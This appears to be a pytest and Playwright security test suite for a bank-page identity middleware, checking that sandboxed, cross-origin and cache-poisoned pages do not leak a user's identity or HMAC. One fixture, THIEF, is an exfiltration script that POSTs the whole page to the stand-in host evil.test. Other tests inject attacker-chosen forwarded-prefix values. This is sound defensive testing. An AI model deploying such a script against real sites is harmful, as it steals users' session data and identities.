"""Pages of a bank in a real Chromium: a script of anybody else's origin learns no identity."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import replace
from queue import Queue
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Playwright, Route
from werkzeug.middleware.proxy_fix import ProxyFix
from werkzeug.wrappers import Request, Response

from demo.ports import free_ports
from pavior_middleware import Identity, Settings, sign
from pavior_middleware._model.paths import SHARE_AUTH
from pavior_middleware.wsgi import PaviorMiddleware
from tests.support import chromium
from tests.support.browsers import FLAGS
from tests.support.embeds import EMBED
from tests.support.pages import masked
from tests.support.servers import serving_http_1_1
from tests.support.sites import API_KEY, TEAM

BANK, PARTNER, EVIL = "http://bank.test", "http://partner.bank.test", "http://evil.test"
SECURE_BANK, SECURE_PARTNER = "http://bank.localhost", "http://partner.bank.localhost"
"""Chromium sends `Sec-Fetch-*` to origins that it trusts: https, and localhost in place of it."""

PATIENCE = 5  # seconds
ADA = Identity("ada-1", "ada@bank.test")
HMAC = masked(sign(API_KEY, "ada-1"))

# Sends every text that it finds in its document, now and later, to its author.
THIEF = f"""<!doctype html><html><head><script>
const send = text => fetch('{EVIL}/stolen', {{method: 'POST', mode: 'no-cors', body: text}});
new MutationObserver(() => send(document.documentElement.outerHTML))
    .observe(document, {{childList: true, subtree: true, attributes: true}});
addEventListener('load', () => send(document.documentElement.outerHTML + ' loaded'));
</script></head><body>cat pictures</body></html>"""


CHAT = """[window.calls ?? null, performance.getEntriesByType('resource')
    .map(entry => entry.name).filter(name => name.endsWith('/embed'))]"""


class World:
    """All sites by their hosts, behind one port, what evil.test was sent, and the bank's pages."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.stolen: Queue[str] = Queue()
        self.sent: Queue[tuple[str, str]] = Queue()
        self.settings = Settings(TEAM, API_KEY, embed_url=f"http://embed.localhost:{port}/embed")
        framing = replace(self.settings, inject_in_frames=True)
        self.cacheable = replace(self.settings, cacheable_pages=True)
        self._banks = {
            "framed": PaviorMiddleware(self.bank, framing, identity=self.identity),
            "cached": PaviorMiddleware(self.bank, self.cacheable, identity=self.identity),
        }
        self._bank = PaviorMiddleware(self.bank, self.settings, identity=self.identity)

    @staticmethod
    def identity(environ: dict[str, Any]) -> Identity | None:
        return ADA if "session" in Request(environ).cookies else None

    def __call__(self, environ: Any, start_response: Any) -> Any:
        request = Request(environ)
        if request.host.startswith("bank."):
            bank = self._banks.get(request.path.split("/")[1], self._bank)
            if request.path == "/ruled":  # as by a web server that adds a policy
                policy = {"Content-Security-Policy": "sandbox allow-scripts"}
                response = Response.from_app(bank, environ)
                response.headers.extend(policy)
                return response(environ, start_response)
            page = Response.from_app(ProxyFix(bank, x_prefix=1), environ)
            self.sent.put((request.path, page.get_data(as_text=True)))
            return page(environ, start_response)
        return self.elsewhere(request)(environ, start_response)

    def bank(self, environ: Any, start_response: Any) -> Any:
        request = Request(environ)
        headers = dict[str, str]()
        if request.path.startswith("/uploads"):
            body = THIEF
            headers["Content-Security-Policy"] = request.args["policy"]
        elif request.path == "/terms":
            body = "<!doctype html><title>Terms</title>"
            headers["Access-Control-Allow-Origin"] = request.headers.get("Origin", BANK)
            headers["Access-Control-Allow-Credentials"] = "true"
            headers["Cache-Control"] = "max-age=600"
            headers["ETag"] = '"1"'
        elif request.path == "/login":
            body = "<!doctype html><title>Welcome</title>"
            headers["Set-Cookie"] = "session=1; Path=/"
        else:
            body = f"<!doctype html><title>Bank</title>{request.method}"
        response = Response(body, mimetype="text/html", headers=headers)
        return response.make_conditional(request)(environ, start_response)

    def elsewhere(self, request: Request) -> Response:
        if request.path == "/embed":
            return Response(EMBED, mimetype="text/javascript")
        if request.path == "/stolen":
            self.stolen.put(request.get_data(as_text=True))
            return Response()
        body = f"<!doctype html><title>{request.host}</title>{request.args.get('body', '')}"
        return Response(body, mimetype="text/html")


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    (port,) = free_ports([0])
    world = World(port)
    with serving_http_1_1(world, port):
        yield world


@pytest.fixture(scope="module")
def chrome(playwright: Playwright, world: World) -> Iterator[Browser]:
    port = world.port
    names = ("*.test", "bank.localhost", "partner.bank.localhost")
    rules = ",".join(f"MAP {name} 127.0.0.1:{port}" for name in names)
    with playwright.chromium.launch(
        executable_path=chromium.path(playwright), args=[*FLAGS, f"--host-resolver-rules={rules}"]
    ) as browser:
        yield browser


@pytest.fixture
def page(chrome: Browser, world: World) -> Iterator[Page]:
    world.stolen, world.sent = Queue(), Queue()
    with chrome.new_context() as context:
        yield context.new_page()


Login = Callable[[str], None]


@pytest.fixture
def login(page: Page) -> Login:
    def visit(bank: str) -> None:
        page.goto(f"{bank}/login")
        assert page.goto(f"{bank}/")
        assert named(page) == [ADA.id]

    return visit


def named(page: Page) -> list[str | None]:
    """Return the id in each call of init, once there was one."""
    page.wait_for_function("window.calls?.length")
    ids: list[str | None] = page.evaluate("calls.map(options => options.id ?? null)")
    return ids


def text_of(page: Page, url: str, options: str = "{}") -> str:
    fetched = f"fetch('{url}', {{credentials: 'include', ...{options}}})"
    text: str = page.evaluate(f"{fetched}.then(response => response.text())")
    return text


@pytest.mark.parametrize(
    "policy",
    [
        "sandbox allow-scripts",
        "default-src * 'unsafe-inline'; SandBox Allow-Scripts allow-popups",
        "sandbox allow-scripts allow-same-origin, sandbox allow-scripts",
        "sandbox allow-scripts; sandbox allow-scripts allow-same-origin",
    ],
)
def test_an_upload_in_a_sandbox_of_its_own_origin_finds_no_identity_in_its_page(
    page: Page, login: Login, world: World, policy: str
) -> None:
    login(SECURE_BANK)
    page.goto(f"{SECURE_BANK}/uploads/cats.html?policy={policy}")
    assert page.evaluate("origin") == "null"
    texts = iter(lambda: world.stolen.get(timeout=PATIENCE), None)
    for text in texts:
        assert HMAC not in text
        assert "ada-1" not in text
        if text.endswith(" loaded"):
            break
    assert page.evaluate(CHAT) == [None, []]


def test_a_page_in_a_sandbox_that_keeps_its_origin_names_its_user(page: Page, login: Login) -> None:
    login(SECURE_BANK)
    policy = "sandbox allow-scripts allow-same-origin"
    page.goto(f"{SECURE_BANK}/uploads/own.html?policy={policy}")
    assert named(page) == [ADA.id]


@pytest.mark.parametrize("bank", [SECURE_BANK, BANK], ids=["fetch-metadata", "plain-http"])
def test_no_chat_starts_in_a_frame_whose_sandbox_attribute_makes_its_origin_opaque(
    page: Page, login: Login, bank: str
) -> None:
    login(bank)
    frames = "".join(
        f"<iframe sandbox='{flags}' src='{bank}/framed'></iframe>"
        for flags in ("allow-scripts", "allow-scripts allow-same-origin")
    )
    page.set_content(frames)
    opaque, own = page.frames[1:]
    own.wait_for_function("window.calls?.length")
    opaque.wait_for_load_state("load")
    assert opaque.evaluate("origin") == "null"
    assert opaque.evaluate(CHAT) == [None, []]


def test_no_chat_starts_in_a_popup_that_inherits_an_opaque_origin(page: Page, login: Login) -> None:
    login(SECURE_BANK)
    with page.expect_popup() as opened:
        page.set_content(
            "<iframe sandbox='allow-scripts allow-popups'"
            f" srcdoc=\"<script>open('{SECURE_BANK}/')</script>\"></iframe>"
        )
    popup = opened.value
    popup.wait_for_load_state("load")
    assert popup.evaluate("origin") == "null"
    assert popup.evaluate(CHAT) == [None, []]


def test_a_policy_that_a_web_server_adds_leaves_the_hmac_in_the_bytes(
    page: Page, login: Login
) -> None:
    """As docs/threat-model.md says. The script sees the sandbox and starts no chat."""
    login(SECURE_BANK)
    response = page.goto(f"{SECURE_BANK}/ruled")
    assert response is not None
    assert HMAC in response.text()
    assert page.evaluate("origin") == "null"
    assert page.evaluate(CHAT) == [None, []]


POPUP = "<iframe sandbox='allow-scripts allow-popups' srcdoc=\"<script>open('{url}')</script>\">"
OUT_OF_SIGHT = {
    "a frame that gains a chat": f"<iframe sandbox='allow-scripts' src='{SECURE_BANK}/framed'>",
    "a frame on plain http": f"<iframe sandbox='allow-scripts' src='{BANK}/a'>",
    "a popup": POPUP.format(url=f"{SECURE_BANK}/a"),
}


@pytest.mark.parametrize("way", OUT_OF_SIGHT)
def test_a_sandbox_that_no_server_sees_leaves_the_hmac_in_the_bytes(
    page: Page, login: Login, world: World, way: str
) -> None:
    """As docs/threat-model.md says; the tests above show that no chat starts there."""
    login(BANK if "plain" in way else SECURE_BANK)
    page.set_content(OUT_OF_SIGHT[way])
    pages = iter(lambda: world.sent.get(timeout=PATIENCE), None)
    assert HMAC in next(text for path, text in pages if path in ("/a", "/framed"))


@pytest.mark.parametrize(
    ("bank", "partner"),
    [(SECURE_BANK, SECURE_PARTNER), (BANK, PARTNER)],
    ids=["fetch-metadata", "plain-http"],
)
def test_a_partner_that_may_read_a_page_reads_an_anonymous_one_and_the_site_a_named_one(
    page: Page, login: Login, bank: str, partner: str
) -> None:
    login(bank)
    page.goto(partner)
    assert "data-pavior" in text_of(page, f"{bank}/terms")
    assert HMAC not in text_of(page, f"{bank}/terms")
    page.goto(bank)
    # As a visit of Turbo's requests it.
    assert HMAC in text_of(page, "/terms", "{headers: {Accept: 'text/html'}}")
    page.goto(f"{bank}/terms")
    assert named(page) == [ADA.id]


@pytest.mark.parametrize(
    ("bank", "partner"),
    [(SECURE_BANK, SECURE_PARTNER), (BANK, PARTNER)],
    ids=["fetch-metadata", "plain-http"],
)
@pytest.mark.parametrize("mode", ["default", "force-cache"])
def test_a_partner_reads_no_copy_that_the_browser_stored_for_the_site(
    page: Page, login: Login, bank: str, partner: str, mode: str
) -> None:
    login(bank)
    assert HMAC in text_of(page, "/terms")
    page.goto(partner)
    assert HMAC not in text_of(page, f"{bank}/terms", f"{{cache: '{mode}'}}")


@pytest.mark.parametrize("policy", ["", "<meta name=referrer content=no-referrer>"])
@pytest.mark.parametrize("bank", [SECURE_BANK, BANK], ids=["fetch-metadata", "plain-http"])
def test_a_page_that_answers_a_form_of_another_site_names_its_user(
    page: Page, login: Login, bank: str, policy: str
) -> None:
    login(bank)
    # The form is on the same site, since no cookie of the bank's comes along from another one.
    page.goto(f"{bank.replace('bank.', 'partner.bank.')}/")
    page.set_content(f"{policy}<form method=post action='{bank}/paid'><button>Pay</button></form>")
    page.click("button")
    assert page.inner_text("body") == "POST"
    assert named(page) == [ADA.id]


@pytest.mark.parametrize(
    "prefix", [".evil.test", "//evil.test", "/\\\\evil.test", "/uploads/mallory"]
)
@pytest.mark.parametrize("path", ["cached", "terms"])
def test_a_page_whose_url_prefix_an_attacker_chose_asks_on_its_own_site(
    page: Page, login: Login, path: str, prefix: str
) -> None:
    login(SECURE_BANK)

    def poison(route: Route) -> None:  # as a cache does that stored the page of another request
        headers = {**route.request.headers, "x-forwarded-prefix": prefix}
        route.continue_(headers=headers)

    page.route(f"**/{path}", poison)
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(f"{SECURE_BANK}/{path}")
    assert named(page) == [ADA.id]
    page.evaluate("dispatchEvent(new PageTransitionEvent('pageshow', {persisted: true}))")
    page.wait_for_function("performance.getEntriesByType('resource').length")
    page.wait_for_load_state("networkidle")
    sites = ("http://bank.localhost/", "http://embed.localhost:")
    assert not [url for url in requests if not url.startswith(sites)]
    if path == "cached":
        assert f"{SECURE_BANK}/.well-known/pavior/share-auth" in requests


def test_an_answer_of_share_auth_sets_the_user_and_no_option_of_the_site(page: Page) -> None:
    answer = """{"id": "7", "name": "Ada", "teamVanityId": "mallory", "doChat": false,
        "doTimeTravel": false}"""
    page.route("**/share-auth", lambda route: route.fulfill(body=answer))
    page.goto(f"{SECURE_BANK}/cached")
    assert named(page) == ["7"]
    ours = {"teamVanityId": TEAM, "doChat": True, "doTimeTravel": True, "id": "7", "name": "Ada"}
    assert page.evaluate("calls") == [ours]
    assert page.evaluate("calls[0].hmac ?? null") is None


def test_a_request_that_is_redirected_to_another_origin_is_not_answered_there(
    page: Page, world: World
) -> None:
    away = {"status": 302, "headers": {"Location": f"{EVIL}/answer"}}
    page.route("**/share-auth", lambda route: route.fulfill(**away))
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    with page.expect_console_message(lambda message: SHARE_AUTH in message.text):
        page.goto(f"{SECURE_BANK}/cached")
    assert named(page) == [None]
    assert not [url for url in asked if url.startswith(EVIL)]
